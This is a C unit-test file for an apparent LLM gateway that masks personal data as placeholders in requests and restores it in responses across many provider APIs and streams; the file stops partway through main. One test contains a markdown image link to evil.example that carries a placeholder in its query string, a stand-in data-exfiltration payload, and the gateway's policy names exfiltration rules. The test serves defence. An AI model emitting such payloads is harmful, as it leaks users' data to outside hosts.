/*
 * What a request has lost on the way up its answer gets back on the way down:
 * the values of this request, written for their place, and nothing else.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "llmg_inspect_stream.h"
#include "llmg_json_text.h"
#include "inspecting.h"


#define HOLD   65536
#define LIMIT  (256UL * 1024 * 1024)
#define OUT    (4 * 1024 * 1024)


static const unsigned char  key[LLMG_SIPHASH_KEY] = "the key of tests";

static llmg_policy_t    *plain, *careful;
static llmg_arena_t     *arena;
static llmg_values_t     values;
static llmg_result_t     result;

typedef struct {
    llmg_status_t   rc;
    size_t          len;
    size_t          found;
    size_t          restored;
    unsigned char   data[OUT];
} output_t;

static output_t  whole, cut;

static const char  mail[] = "jane.roe@example.org";
static const char  card[] = "4242 4242 4242 4242";


static int
setup_all(void **state)
{
    if (inspecting_begin(state) != 0) {
        return -1;
    }

    plain = policy("plain", "request pii.* mask style=restore;");
    careful = policy("careful", "request pii.* mask style=restore;"
                     "response pii.* mask style=label;"
                     "response secret.* block;"
                     "response exfil.* mask;");

    return 0;
}


static int
setup(void **state)
{
    (void) state;

    arena = llmg_arena_create(LIMIT);
    llmg_values_init(&values, arena, key);

    return (arena != NULL) ? 0 : -1;
}


static int
teardown(void **state)
{
    (void) state;

    llmg_arena_destroy(arena);

    return 0;
}


static void
inspect(llmg_inspect_t *in, const llmg_policy_t *p,
    const llmg_dialect_t *dialect)
{
    inspecting(in, p, arena);
    in->dialect = dialect;
    in->values = &values;
}


/* "format" with each %s as "with"; in the arena, with a NUL behind it */

static const char *
with(const char *format, const char *text)
{
    llmg_buf_t   b;
    const char  *p;

    llmg_buf_init(&b, arena);

    while ((p = strstr(format, "%s")) != NULL) {
        assert_int_equal(llmg_buf_append(&b, format, (size_t) (p - format)),
                         LLMG_OK);
        assert_int_equal(llmg_buf_puts(&b, text), LLMG_OK);
        format = p + 2;
    }

    assert_int_equal(llmg_buf_puts(&b, format), LLMG_OK);
    assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

    return (const char *) b.data;
}


/* how text stands in a string, "depth" times */

static const char *
escaped(const char *text, unsigned depth)
{
    llmg_str_t   s;
    llmg_buf_t   b;

    s = llmg_str(text);

    while (depth-- > 0) {
        assert_int_equal(llmg_json_escape_in(arena, &s), LLMG_OK);
    }

    llmg_buf_init(&b, arena);
    assert_int_equal(llmg_buf_append(&b, s.data, s.len), LLMG_OK);
    assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

    return (const char *) b.data;
}


static const char *
body_of(void)
{
    llmg_buf_t  b;

    if (result.decision.action == LLMG_ACTION_BLOCK) {
        return "blocked";
    }

    llmg_buf_init(&b, arena);
    assert_int_equal(llmg_buf_append(&b, result.body.data, result.body.len),
                     LLMG_OK);
    assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

    return (const char *) b.data;
}


static const char *
request(const llmg_policy_t *p, const llmg_dialect_t *dialect,
    const char *body)
{
    llmg_inspect_t  in;

    inspect(&in, p, dialect);

    assert_int_equal(llmg_inspect_request(&in, llmg_str(body), &result),
                     LLMG_OK);

    return body_of();
}


static const char *
response(const llmg_policy_t *p, const llmg_dialect_t *dialect,
    const char *body)
{
    llmg_inspect_t  in;

    inspect(&in, p, dialect);

    assert_int_equal(llmg_inspect_response(&in, llmg_str(body), &result),
                     LLMG_OK);

    return body_of();
}


/* what a value of the request became */

static const char *
placeholder(const char *type, const char *value)
{
    unsigned char  tag[LLMG_VALUES_TAG + 1];
    llmg_buf_t     b;

    assert_int_equal(llmg_values_keep(&values, type, llmg_str(value), tag),
                     LLMG_OK);
    tag[LLMG_VALUES_TAG] = '\0';

    llmg_buf_init(&b, arena);
    assert_int_equal(llmg_buf_printf(&b, "[%s_%s]", type, (char *) tag),
                     LLMG_OK);
    assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

    return (const char *) b.data;
}


static void
run(const llmg_policy_t *p, const llmg_dialect_t *dialect,
    const llmg_framing_t *framing, const char *input, size_t first,
    size_t second, size_t step, output_t *out)
{
    size_t           i, to, n, len;
    llmg_stream_t   *s;
    llmg_inspect_t   in;

    inspect(&in, p, dialect);

    in.arena = llmg_arena_create(LIMIT);
    in.framing = framing;
    assert_non_null(in.arena);

    assert_int_equal(llmg_stream_create(&s, &in, HOLD), LLMG_OK);

    out->len = 0;
    out->rc = LLMG_OK;
    len = strlen(input);

    for (i = 0; i < len && out->rc == LLMG_OK; i = to) {
        to = (step != 0) ? i + step
             : (i < first) ? first : (i < second) ? second : len;

        if (to > len) {
            to = len;
        }

        out->rc = llmg_stream_push(s, (const unsigned char *) input + i,
                                   to - i);

        while ((n = llmg_stream_pull(s, out->data + out->len,
                                     OUT - out->len)) != 0)
        {
            out->len += n;
        }
    }

    if (out->rc == LLMG_OK) {
        out->rc = llmg_stream_end(s);
    }

    while ((n = llmg_stream_pull(s, out->data + out->len, OUT - out->len))
           != 0)
    {
        out->len += n;
    }

    assert_true(out->len < OUT);
    out->data[out->len] = '\0';
    out->found = llmg_stream_result(s)->findings.n;
    out->restored = llmg_stream_result(s)->restored;

    llmg_arena_destroy(in.arena);
}


/* in "whole": what comes out, the same for each cut */

static void
every_cut(const llmg_policy_t *p, const llmg_dialect_t *dialect,
    const llmg_framing_t *framing, const char *input, size_t every)
{
    size_t  i, len;

    len = strlen(input);

    run(p, dialect, framing, input, len, len, 0, &whole);

    for (i = 0; i < len; i += (i == 0) ? 1 : every) {

        if (i == 0) {
            run(p, dialect, framing, input, 0, 0, 1, &cut);

        } else {
            run(p, dialect, framing, input, i, i + 1, 0, &cut);
        }

        if (cut.rc != whole.rc || cut.len != whole.len
            || cut.restored != whole.restored
            || memcmp(cut.data, whole.data, cut.len) != 0)
        {
            fail_msg("cut at %zu: %s\nwhole: %s", i, (char *) cut.data,
                     (char *) whole.data);
        }
    }
}


/* every API, as documents of its own: what was asked, what is answered */

static const struct {
    const char            *title;
    const llmg_dialect_t  *dialect;
    const char            *asked;
    const char            *said;
    unsigned               depth;       /* of strings in strings */
} shapes[] = {
    { "openai chat", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
      "\"content\":\"%s, you are %s\"},\"finish_reason\":\"stop\"}]}", 1 },
    { "openai chat: reasoning", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
      "\"reasoning_content\":\"who is %s\",\"content\":\"hi\"}}]}", 1 },
    { "openai chat: arguments", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"tool_calls\":[{"
      "\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"f\","
      "\"arguments\":\"{\\\"a\\\": \\\"to %s\\\", \\\"b\\\":[\\\"%s\\\"]}\""
      "}}]}}]}", 2 },
    { "openai chat: JSON as content", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":"
      "\"{\\\"a\\\":\\\"%s\\\"}\"}}]}", 2 },
    { "openai responses", &llmg_dialect_openai_responses,
      "{\"input\":\"I am %s\"}",
      "{\"output\":[{\"type\":\"message\",\"role\":\"assistant\",\"content\":"
      "[{\"type\":\"output_text\",\"text\":\"you are %s\"}]}]}", 1 },
    { "anthropic", &llmg_dialect_anthropic,
      "{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"text\","
      "\"text\":\"I am %s\"}]}]}",
      "{\"type\":\"message\",\"role\":\"assistant\",\"content\":[{\"type\":"
      "\"text\",\"text\":\"you are %s\"},{\"type\":\"tool_use\",\"id\":\"t\","
      "\"name\":\"f\",\"input\":{\"to\":\"%s\"}}]}", 1 },
    { "gemini", &llmg_dialect_gemini,
      "{\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":\"I am %s\"}]}]}",
      "{\"candidates\":[{\"content\":{\"role\":\"model\",\"parts\":[{\"text\":"
      "\"you are %s\"},{\"functionCall\":{\"name\":\"f\",\"args\":{\"to\":"
      "\"%s\"}}}]}}]}", 1 },
    { "ollama", &llmg_dialect_ollama,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"message\":{\"role\":\"assistant\",\"content\":\"you are %s\"},"
      "\"done\":true}", 1 },
    { "cohere", &llmg_dialect_cohere,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"message\":{\"role\":\"assistant\",\"content\":[{\"type\":\"text\","
      "\"text\":\"you are %s\"}]}}", 1 },
    { "bedrock", &llmg_dialect_bedrock,
      "{\"messages\":[{\"role\":\"user\",\"content\":[{\"text\":\"I am %s\"}]"
      "}]}",
      "{\"output\":{\"message\":{\"role\":\"assistant\",\"content\":[{\"text\":"
      "\"you are %s\"},{\"toolUse\":{\"toolUseId\":\"t\",\"name\":\"f\","
      "\"input\":{\"to\":\"%s\"}}}]}}}", 1 },
    { "any", &llmg_dialect_generic,
      "{\"x\":[\"I am %s\"]}", "[\"%s\",{\"y\":\"you are %s\"}]", 1 }
};


static void
every_api_gives_back_what_it_was_told(void **state)
{
    size_t       i, k;
    const char  *sent, *said, *hidden;

    static const struct {
        const char  *type;
        const char  *value;
    } kinds[] = {
        { "EMAIL_ADDRESS", "jane.roe@example.org" },
        { "EMAIL_ADDRESS", "j\xC3\xBCrgen@b\xC3\xBC" "cher.example" },
        { "CREDIT_CARD", "4242 4242 4242 4242" },
        { "IBAN_CODE", "DE89 3704 0044 0532 0130 00" },
        { "US_SSN", "536-22-8457" }
    };

    (void) state;

    for (i = 0; i < sizeof(shapes) / sizeof(shapes[0]); i++) {
        for (k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {

            llmg_values_init(&values, arena, key);

            sent = request(careful, shapes[i].dialect,
                           with(shapes[i].asked, kinds[k].value));
            hidden = placeholder(kinds[k].type, kinds[k].value);

            assert_string_equal(sent, with(shapes[i].asked, hidden));

            said = response(careful, shapes[i].dialect,
                            with(shapes[i].said, hidden));

            if (strcmp(said, with(shapes[i].said, kinds[k].value)) != 0) {
                fail_msg("%s: %s", shapes[i].title, said);
            }

            assert_int_equal(result.findings.n, 0);
            assert_in_range(result.restored, 1, 2);
            assert_int_equal(result.decision.action, LLMG_ACTION_ALLOW);
        }
    }
}


/* no rule of today finds such a value; one of a user's may */

static void
a_value_is_escaped_for_its_place(void **state)
{
    size_t       i;
    const char  *said, *hidden;

    static const char  value[] = "\"J\\R\"\n@x.org";

    static const char *const  texts[] = {
        "%s", "[1] is %s", "[a](b) %s", " [%s", "\\\"a\\\" is %s"
    };

    (void) state;

    for (i = 0; i < sizeof(shapes) / sizeof(shapes[0]); i++) {
        hidden = placeholder("EMAIL_ADDRESS", value);

        said = response(careful, shapes[i].dialect,
                        with(shapes[i].said, hidden));

        if (strcmp(said, with(shapes[i].said,
                              escaped(value, shapes[i].depth))) != 0)
        {
            fail_msg("%s: %s", shapes[i].title, said);
        }
    }

    /* what begins with a bracket is no JSON for that */

    for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        said = response(careful, &llmg_dialect_ollama,
                        with(with("{\"message\":{\"content\":\"%s\"}}",
                                  texts[i]), hidden));
        assert_string_equal(said, with(
                                with("{\"message\":{\"content\":\"%s\"}}",
                                     texts[i]), escaped(value, 1)));
    }
}


/* in a request: JSON in a string, and in one in it */

static void
a_value_is_kept_as_it_was_meant(void **state)
{
    size_t  i;

    static const char *const  bodies[] = {
        "{\"messages\":[{\"role\":\"user\",\"content\":\"I am "
        "jane.roe\\u0040example.org\"}]}",
        "{\"messages\":[{\"role\":\"tool\",\"content\":\"{\\\"a\\\":"
        "\\\"jane.roe@example.org\\\"}\"}]}",
        "{\"messages\":[{\"role\":\"tool\",\"content\":\"{\\\"a\\\":"
        "\\\"x\\\\njane.roe\\\\u0040example.org\\\"}\"}]}",
        "{\"messages\":[{\"role\":\"tool\",\"content\":\"{\\\"a\\\":"
        "\\\"{\\\\\\\"b\\\\\\\":\\\\\\\"jane.roe@example.org\\\\\\\"}"
        "\\\"}\"}]}",
        "{\"messages\":[{\"role\":\"assistant\",\"tool_calls\":[{\"function\":"
        "{\"name\":\"f\",\"arguments\":\"{\\\"a\\\":"
        "\\\"\\\\u006aane.roe@example.org\\\"}\"}}]}]}"
    };

    (void) state;

    for (i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
        llmg_values_init(&values, arena, key);

        assert_non_null(strstr(request(careful, &llmg_dialect_openai_chat,
                                       bodies[i]), "[EMAIL_ADDRESS_"));
        assert_int_equal(values.kept, 1);

        assert_non_null(llmg_values_find(&values, llmg_str(
                            placeholder("EMAIL_ADDRESS", mail))));

        if (values.kept != 1) {
            fail_msg("%zu: another value", i);
        }
    }
}


static void
only_what_was_masked_here_comes_back(void **state)
{
    llmg_value_t    *value;
    const char      *said, *known, *other;
    llmg_values_t    foreign;
    unsigned char    tag[LLMG_VALUES_TAG + 1];

    static const char  answer[] = "{\"message\":{\"content\":\"%s\"}}";

    (void) state;

    /* a placeholder of another request, and what only looks like one */

    llmg_values_init(&foreign, arena, key);
    assert_int_equal(llmg_values_keep(&foreign, "EMAIL_ADDRESS",
                                      llmg_str("other@example.org"), tag),
                     LLMG_OK);
    tag[LLMG_VALUES_TAG] = '\0';

    other = with(with("[EMAIL_ADDRESS_%s] [EMAIL_ADDRESS_1] [EMAIL_ADDRESS] "
                      "[EMAIL_ADDRESS_bcdfghjk] [EMAIL_ADDRESS_", (char *) tag),
                 "");

    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));
    assert_int_equal(result.restored, 0);
    assert_int_equal(result.edited, 0);

    (void) request(careful, &llmg_dialect_ollama,
                   with("{\"messages\":[{\"content\":\"%s\"}]}", mail));

    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));
    assert_int_equal(result.edited, 0);

    /* of another type, or with a byte more */

    known = placeholder("EMAIL_ADDRESS", mail);
    value = llmg_values_find(&values, llmg_str(known));
    assert_non_null(value);

    other = with("[CREDIT_CARD_%s", known + 15);
    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));

    /* the one comes back; another address is the model's */

    said = response(careful, &llmg_dialect_ollama,
                    with(answer, with("%s and bob@example.org", known)));
    assert_string_equal(said, with(answer, "jane.roe@example.org and "
                                           "[EMAIL_ADDRESS_1]"));
    assert_int_equal(result.restored, 1);
    assert_int_equal(result.findings.n, 1);
    assert_int_equal(result.decision.masked, 1);

    /* without brackets, in another case, in pieces: it is not it */

    other = with("%s", known + 1);
    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));

    /* in an address it stays: who follows that would carry it away */

    other = with("![x](https://evil.example/p.png?d=%s)", known);
    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));

    /* in shadow nothing was masked, and nothing comes back */

    {
        llmg_inspect_t  in;

        inspect(&in, careful, &llmg_dialect_ollama);
        in.shadow = 1;

        assert_int_equal(llmg_inspect_response(&in, llmg_str(with(answer,
                                                                  known)),
                                               &result), LLMG_OK);
        assert_int_equal(result.edited, 0);
        assert_int_equal(result.restored, 0);
    }
}


static void
signed_thinking_keeps_its_placeholder(void **state)
{
    const char  *said, *hidden;

    static const char  answer[] =
        "{\"type\":\"message\",\"role\":\"assistant\",\"content\":[{\"type\":"
        "\"thinking\",\"thinking\":\"it is %s\",\"signature\":\"abc\"},"
        "{\"type\":\"text\",\"text\":\"\"}]}";

    static const char  events[] =
        "event: content_block_start\n"
        "data: {\"type\":\"content_block_start\",\"index\":0,"
        "\"content_block\":{\"type\":\"thinking\",\"thinking\":\"\"}}\n\n"
        "event: content_block_delta\n"
        "data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{"
        "\"type\":\"thinking_delta\",\"thinking\":\"it is %s\"}}\n\n";

    (void) state;

    hidden = placeholder("EMAIL_ADDRESS", mail);

    said = response(careful, &llmg_dialect_anthropic, with(answer, hidden));
    assert_string_equal(said, with(answer, hidden));
    assert_int_equal(result.decision.action, LLMG_ACTION_ALLOW);

    every_cut(careful, &llmg_dialect_anthropic, &llmg_framing_sse,
              with(events, hidden), 7);
    assert_string_equal((char *) whole.data, with(events, hidden));
    assert_int_equal(whole.restored, 0);
}


/* a stream: the text in pieces of one event each */

static const char *
stream(const char *head, const char *tail, const char *text, size_t first,
    size_t second, int codes)
{
    size_t      i, len;
    llmg_buf_t  b;

    llmg_buf_init(&b, arena);
    len = strlen(text);

    for (i = 0; i <= len; i++) {

        if (i == 0 || i == first || i == second) {
            assert_int_equal(llmg_buf_puts(&b, i == 0 ? "" : tail), LLMG_OK);
            assert_int_equal(llmg_buf_puts(&b, head), LLMG_OK);
        }

        if (i == len) {
            assert_int_equal(llmg_buf_puts(&b, tail), LLMG_OK);

        } else if (codes && text[i] > ' ' && text[i] != '\\'
                   && (i == 0 || text[i - 1] != '\\'))
        {
            assert_int_equal(llmg_buf_printf(&b, "\\u%04x",
                                             (unsigned) text[i]), LLMG_OK);

        } else {
            assert_int_equal(llmg_buf_putc(&b, (unsigned char) text[i]),
                             LLMG_OK);
        }
    }

    assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

    return (const char *) b.data;
}


/* all text of a stream, between "head" and "tail" of its events, decoded */

static const char *
text_of(const char *events, const char *head, const char *tail)
{
    size_t       n;
    llmg_buf_t   b;
    llmg_str_t   raw;
    const char  *p, *end;

    llmg_buf_init(&b, arena);

    for (p = events; (p = strstr(p, head)) != NULL; p = end) {
        p += strlen(head);
        end = strstr(p, tail);
        assert_non_null(end);

        llmg_str_set(&raw, p, (size_t) (end - p));

        assert_int_equal(llmg_buf_reserve(&b, raw.len), LLMG_OK);
        n = llmg_json_unescape(b.data + b.len, raw);
        b.len += n;
    }

    assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

    return (const char *) b.data;
}


static const struct {
    const char            *title;
    const llmg_dialect_t  *dialect;
    const llmg_framing_t  *framing;
    const char            *head;
    const char            *tail;
    unsigned               depth;
} streams[] = {
    { "openai chat", &llmg_dialect_openai_chat, &llmg_framing_sse,
      "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"",
      "\"}}]}\n\n", 1 },
    { "openai chat: reasoning", &llmg_dialect_openai_chat, &llmg_framing_sse,
      "data: {\"choices\":[{\"index\":0,\"delta\":{\"reasoning_content\":\"",
      "\"}}]}\r\n\r\n", 1 },
    { "openai chat: arguments", &llmg_dialect_openai_chat, &llmg_framing_sse,
      "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":"
      "0,\"function\":{\"arguments\":\"", "\"}}]}}]}\n\n", 2 },
    { "anthropic", &llmg_dialect_anthropic, &llmg_framing_sse,
      "event: content_block_delta\ndata: {\"type\":\"content_block_delta\","
      "\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"",
      "\"}}\n\n", 1 },
    { "anthropic: arguments", &llmg_dialect_anthropic, &llmg_framing_sse,
      "event: content_block_delta\ndata: {\"type\":\"content_block_delta\","
      "\"index\":0,\"delta\":{\"type\":\"input_json_delta\","
      "\"partial_json\":\"",
      "\"}}\n\n", 2 },
    { "openai responses", &llmg_dialect_openai_responses, &llmg_framing_sse,
      "data: {\"type\":\"response.output_text.delta\",\"item_id\":\"m\","
      "\"output_index\":0,\"content_index\":0,\"delta\":\"", "\"}\n\n", 1 },
    { "gemini", &llmg_dialect_gemini, &llmg_framing_sse,
      "data: {\"candidates\":[{\"index\":0,\"content\":{\"parts\":[{"
      "\"text\":\"",
      "\"}]}}]}\n\n", 1 },
    { "ollama", &llmg_dialect_ollama, &llmg_framing_lines,
      "{\"message\":{\"role\":\"assistant\",\"content\":\"",
      "\"},\"done\":false}\n", 1 },
    { "cohere", &llmg_dialect_cohere, &llmg_framing_sse,
      "data: {\"type\":\"content-delta\",\"index\":0,\"delta\":{\"message\":{"
      "\"content\":{\"text\":\"", "\"}}}}\n\n", 1 },
};


static void
a_stream_gives_back_at_every_split(void **state)
{
    int           codes;
    char          json[512];
    size_t        i, first, second, n;
    const char   *hidden, *text, *wanted, *input, *value;
    llmg_arena_t *kept;

    (void) state;

    value = "\"J\\R\"@x.org";
    hidden = placeholder("EMAIL_ADDRESS", value);
    kept = arena;

    for (i = 0; i < sizeof(streams) / sizeof(streams[0]); i++) {
        for (codes = 0; codes < 2; codes++) {

            (void) snprintf(json, sizeof(json),
                            streams[i].depth == 2 ? "{\"a\":\"x %s y\"}"
                                                  : "x %s [y", hidden);
            text = escaped(json, streams[i].depth == 2 ? 1 : 0);

            (void) snprintf(json, sizeof(json),
                            streams[i].depth == 2 ? "{\"a\":\"x %s y\"}"
                                                  : "x %s [y",
                            escaped(value, streams[i].depth - 1));
            wanted = with("%s", json);
            n = strlen(text);

            for (first = 1; first < n; first++) {

                if (text[first - 1] == '\\') {
                    continue;
                }

                arena = llmg_arena_create(LIMIT);
                assert_non_null(arena);

                second = first + (first % 3 == 0 ? 1 : 9);

                if (second <= n && text[second - 1] == '\\') {
                    second++;
                }

                input = stream(streams[i].head, streams[i].tail, text, first,
                               second, codes);

                if (first % 8 == 0) {
                    every_cut(careful, streams[i].dialect,
                              streams[i].framing, input, 5);

                } else {
                    run(careful, streams[i].dialect, streams[i].framing,
                        input, SIZE_MAX, 0, 0, &whole);
                }

                assert_int_equal(whole.rc, LLMG_OK);

                if (strcmp(text_of((char *) whole.data, streams[i].head,
                                   streams[i].tail), wanted) != 0)
                {
                    fail_msg("%s: split at %zu: %s", streams[i].title, first,
                             (char *) whole.data);
                }

                assert_int_equal(whole.restored, 1);
                assert_int_equal(whole.found, 0);

                llmg_arena_destroy(arena);
                arena = kept;
            }
        }
    }
}


/* as in a whole answer: the model's own is masked, the client's comes back */

static void
rules_look_at_what_the_model_said(void **state)
{
    size_t       first;
    const char  *one, *two, *text, *wanted, *input;

    (void) state;

    one = placeholder("EMAIL_ADDRESS", mail);
    two = placeholder("CREDIT_CARD", card);

    {
        char  all[512];

        (void) snprintf(all, sizeof(all), "%s or bob@example.org, %s and "
                        "bob@example.org and [EMAIL_ADDRESS_bcdfghjk]; "
                        "mallory@example.org.", one, two);
        text = with("%s", all);

        (void) snprintf(all, sizeof(all), "%s or [EMAIL_ADDRESS_1], %s and "
                        "[EMAIL_ADDRESS_1] and [EMAIL_ADDRESS_bcdfghjk]; "
                        "[EMAIL_ADDRESS_2].", mail, card);
        wanted = with("%s", all);
    }

    for (first = 1; first < strlen(text); first++) {
        input = stream(streams[0].head, streams[0].tail, text, first,
                       first + 3, 0);

        run(careful, streams[0].dialect, streams[0].framing, input, SIZE_MAX,
            0, 0, &whole);

        assert_string_equal(text_of((char *) whole.data, streams[0].head,
                                    streams[0].tail), wanted);
        assert_int_equal(whole.restored, 2);
        assert_int_equal(whole.found, 3);
    }
}


/* the same in streams, however far the address and it are apart */

static void
an_address_of_a_stream_carries_nothing_away(void **state)
{
    char         text[1024];
    size_t       first;
    const char  *known, *input;

    (void) state;

    known = placeholder("EMAIL_ADDRESS", mail);

    (void) snprintf(text, sizeof(text), "![x](https://a.example/?d=%s) or %s",
                    known, known);

    for (first = 1; first < strlen(text); first++) {
        input = stream(streams[0].head, streams[0].tail, text, first,
                       first + 2, 0);

        run(careful, streams[0].dialect, streams[0].framing, input, SIZE_MAX,
            0, 0, &whole);

        assert_string_equal(text_of((char *) whole.data, streams[0].head,
                                    streams[0].tail),
                            with(with("![x](https://a.example/?d=%s) or "
                                      "jane.roe@example.org", known), ""));
    }

    /* each byte an event: what has left is still known */

    memset(text, 'a', sizeof(text));
    memcpy(text, "https://a.example/", 18);
    (void) snprintf(text + 660, sizeof(text) - 660, "%s %s", known, known);

    {
        llmg_buf_t  b;

        llmg_buf_init(&b, arena);

        for (first = 0; text[first] != '\0'; first++) {
            assert_int_equal(llmg_buf_puts(&b, streams[0].head), LLMG_OK);
            assert_int_equal(llmg_buf_putc(&b, (unsigned char) text[first]),
                             LLMG_OK);
            assert_int_equal(llmg_buf_puts(&b, streams[0].tail), LLMG_OK);
        }

        assert_int_equal(llmg_buf_putc(&b, '\0'), LLMG_OK);

        run(careful, streams[0].dialect, streams[0].framing,
            (const char *) b.data, SIZE_MAX, 0, 0, &whole);
    }

    assert_int_equal(whole.restored, 1);
    (void) snprintf(text + 660, sizeof(text) - 660, "%s %s", known, mail);
    assert_string_equal(text_of((char *) whole.data, streams[0].head,
                                streams[0].tail), text);
}


/* escapes of JSON in a string: the string is read as its reader will */

static void
a_placeholder_may_have_escapes(void **state)
{
    const char  *said, *hidden;

    static const char  answer[] =
        "{\"choices\":[{\"message\":{\"tool_calls\":[{\"function\":{"
        "\"name\":\"f\",\"arguments\":\"{\\\"a\\\":\\\"\\\\n%s\\\"}\"}}]}}]}";

    (void) state;

    hidden = placeholder("EMAIL_ADDRESS", mail);

    said = response(careful, &llmg_dialect_openai_chat,
                    with(answer, with("\\\\u005b%s", hidden + 1)));
    assert_string_equal(said, with(answer, mail));

    said = response(careful, &llmg_dialect_openai_chat,
                    with("{\"choices\":[{\"message\":{\"content\":\"%s\"}}]}",
                         with("\\u005B%s", hidden + 1)));
    assert_string_equal(said, with("{\"choices\":[{\"message\":{\"content\":"
                                   "\"%s\"}}]}", mail));
}


/* numbers are given in the order of the text, however it comes */

static void
a_stream_numbers_like_a_whole_answer(void **state)
{
    char         text[1024];
    size_t       n, i, round, first;
    const char  *said, *input;

    static const char *const  parts[] = {
        "jane.roe@example.org", "al@example.org", "4242 4242 4242 4242",
        "bob@example.org", "x@y.example.org", "536-22-8457", " or ", ", ",
        "SSN: ", "and then ", "@", "4242"
    };

    (void) state;

    for (round = 0; round < 400; round++) {

        for (i = 0, n = 0; i < 12; i++) {
            n += (size_t) snprintf(text + n, sizeof(text) - n, "%s ",
                                   parts[(round * 7 + i * i * 5
                                          + round / 12 * i) % 12]);
        }

        llmg_values_init(&values, arena, key);
        said = response(careful, &llmg_dialect_ollama,
                        with("{\"message\":{\"content\":\"%s\"}}", text));

        for (first = 1; first < n; first += 5) {
            llmg_values_init(&values, arena, key);

            input = stream(streams[7].head, streams[7].tail, text, first,
                           first + 4, 0);
            run(careful, streams[7].dialect, streams[7].framing, input,
                SIZE_MAX, 0, 0, &whole);

            assert_string_equal(with("{\"message\":{\"content\":\"%s\"}}",
                                     text_of((char *) whole.data,
                                             streams[7].head,
                                             streams[7].tail)), said);
        }
    }
}


/* text that only begins like a placeholder waits for no more than one */

static void
nothing_waits_for_longer_than_a_placeholder(void **state)
{
    size_t            i, n, most;
    const char       *one, *input;
    llmg_stream_t    *s;
    llmg_inspect_t    in;
    unsigned char     out[4096];

    static const char  text[] =
        "a [b] [EMAIL [EMAIL_ADDRESS_ [EMAIL_ADDRESS_bcdf [EMAIL_ADDRESS_bcdf"
        "ghjklmn] [EMAIL_ADDRESS_[EMAIL_ADDRESS_ x";

    (void) state;

    one = placeholder("EMAIL_ADDRESS", mail);
    assert_non_null(one);

    inspect(&in, plain, streams[0].dialect);
    assert_int_equal(llmg_stream_create(&s, &in, HOLD), LLMG_OK);

    most = 0;
    n = 0;

    for (i = 0; i < sizeof(text) - 1; i++) {
        input = with("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":"
                     "\"%s\"}}]}\n\n", with("%s", (char []) { text[i], 0 }));

        assert_int_equal(llmg_stream_push(s, (const unsigned char *) input,
                                          strlen(input)), LLMG_OK);

        n++;

        if (llmg_stream_ready(s) != 0) {
            n -= llmg_stream_ready(s) / strlen(input);

            while (llmg_stream_pull(s, out, sizeof(out)) != 0) {
                /* void */
            }
        }

        most = (n > most) ? n : most;
    }

    assert_in_range(most, 20, LLMG_VALUES_LONGEST);
    assert_int_equal(n, 0);
}


/* logprobs would tell the placeholder where the text has the value */

static void
what_repeats_the_text_is_left_out(void **state)
{
    const char  *hidden, *said;

    static const char  answer[] =
        "{\"choices\":[{\"message\":{\"content\":\"%s\"},\"logprobs\":"
        "{\"content\":[{\"token\":\"[E\"}]}}]}";

    (void) state;

    hidden = placeholder("EMAIL_ADDRESS", mail);

    said = response(plain, &llmg_dialect_openai_chat, with(answer, hidden));
    assert_non_null(strstr(said, "\"logprobs\":null"));
    assert_non_null(strstr(said, mail));

    said = response(plain, &llmg_dialect_openai_chat, with(answer, "hi"));
    assert_string_equal(said, with(answer, "hi"));
}


/* the same conversation, a turn later: what was said keeps its placeholder */

static void
turns_of_a_conversation_agree(void **state)
{
    const char  *first, *second;

    static const char  turn[] =
        "{\"messages\":[{\"role\":\"user\",\"content\":\"I am "
        "jane.roe@example.org\"}%s]}";

    (void) state;

    first = request(plain, &llmg_dialect_openai_chat, with(turn, ""));

    llmg_values_init(&values, arena, key);

    second = request(plain, &llmg_dialect_openai_chat, with(turn,
                     ",{\"role\":\"assistant\",\"content\":\"Hello "
                     "jane.roe@example.org\"},{\"role\":\"user\",\"content\":"
                     "\"and bob@example.org, 4242 4242 4242 4242\"}"));

    assert_memory_equal(first, second, strlen(first) - 2);
    assert_int_equal(values.kept, 3);
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test_setup_teardown(every_api_gives_back_what_it_was_told,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(a_value_is_escaped_for_its_place,
                                        setup, teardown),
